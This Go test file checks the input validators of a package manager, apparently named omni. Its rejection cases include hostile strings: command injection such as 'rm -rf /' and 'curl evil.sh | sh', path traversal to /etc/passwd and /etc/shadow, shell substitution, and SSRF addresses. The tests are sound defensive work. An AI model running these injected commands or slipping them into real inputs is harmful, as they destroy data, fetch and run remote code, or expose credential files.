package validate_test

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/omnipkg/omni/internal/validate"
)

func TestPackageNameAcceptsOrdinaryNames(t *testing.T) {
	require.NoError(t, validate.PackageName("vim"))
	require.NoError(t, validate.PackageName("lib32-gcc-libs"))
	require.NoError(t, validate.PackageName("python3.11"))
}

// Testable Property 7 / S5: a curated corpus of known-malicious strings must
// be rejected by the matching validator.
func TestPackageNameRejectsMaliciousCorpus(t *testing.T) {
	cases := []string{
		"../etc/passwd",
		"../../etc/shadow",
		"vim; rm -rf /",
		"vim && curl evil.sh | sh",
		"pkg with spaces",
		"",
		".",
		"..",
		"CON",
		"lpt1",
		string(make([]byte, 300)),
	}
	for _, c := range cases {
		assert.Error(t, validate.PackageName(c), "expected rejection for %q", c)
	}
}

func TestBackendTag(t *testing.T) {
	require.NoError(t, validate.BackendTag("apt"))
	require.NoError(t, validate.BackendTag("winget"))
	assert.Error(t, validate.BackendTag("rpm"))
	assert.Error(t, validate.BackendTag(""))
}

func TestVersionString(t *testing.T) {
	require.NoError(t, validate.VersionString("1.2.3"))
	require.NoError(t, validate.VersionString("2023.11.0-rc1"))
	assert.Error(t, validate.VersionString("1.2.3; rm -rf /"))
	assert.Error(t, validate.VersionString(""))
}

func TestURLAcceptsPublicHTTPS(t *testing.T) {
	require.NoError(t, validate.URL("https://example.com/pkg.deb"))
}

// S6: SSRF block — loopback and private ranges must be rejected, and no
// network request should ever be attempted to discover that (the validator
// is pure and synchronous).
func TestURLRejectsSSRFTargets(t *testing.T) {
	cases := []string{
		"https://127.0.0.1/sig",
		"https://localhost/sig",
		"http://10.0.0.5/pkg",
		"http://172.16.4.4/pkg",
		"http://192.168.1.1/pkg",
		"ftp://example.com/pkg",
		"not a url at all",
	}
	for _, c := range cases {
		assert.Error(t, validate.URL(c), "expected rejection for %q", c)
	}
}

func TestURLRejectsOversizeURLs(t *testing.T) {
	long := "https://example.com/" + string(make([]byte, 2048))
	assert.Error(t, validate.URL(long))
}

func TestPathRejectsTraversalAndNullBytes(t *testing.T) {
	_, err := validate.Path("/tmp/../../etc/passwd")
	assert.Error(t, err)
	_, err = validate.Path("/tmp/foo\x00bar")
	assert.Error(t, err)
}

func TestPathAcceptsAllowedPrefixes(t *testing.T) {
	clean, err := validate.Path("/tmp/omni-test")
	require.NoError(t, err)
	assert.Equal(t, "/tmp/omni-test", clean)
}

func TestShellSafeTokenRejectsMetacharacters(t *testing.T) {
	cases := []string{
		"foo; rm -rf /",
		"foo && echo pwned",
		"$(whoami)",
		"`whoami`",
		"foo|bar",
		"foo\nbar",
	}
	for _, c := range cases {
		assert.Error(t, validate.ShellSafeToken(c), "expected rejection for %q", c)
	}
	require.NoError(t, validate.ShellSafeToken("--yes"))
	require.NoError(t, validate.ShellSafeToken("vim"))
}

func TestChecksum(t *testing.T) {
	require.NoError(t, validate.Checksum("d41d8cd98f00b204e9800998ecf8427e")) // md5-shaped, len 32; parses here
	require.NoError(t, validate.Checksum("2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae"[:64]))
	assert.Error(t, validate.Checksum("not-hex-at-all"))
	assert.Error(t, validate.Checksum("abcd"))
}
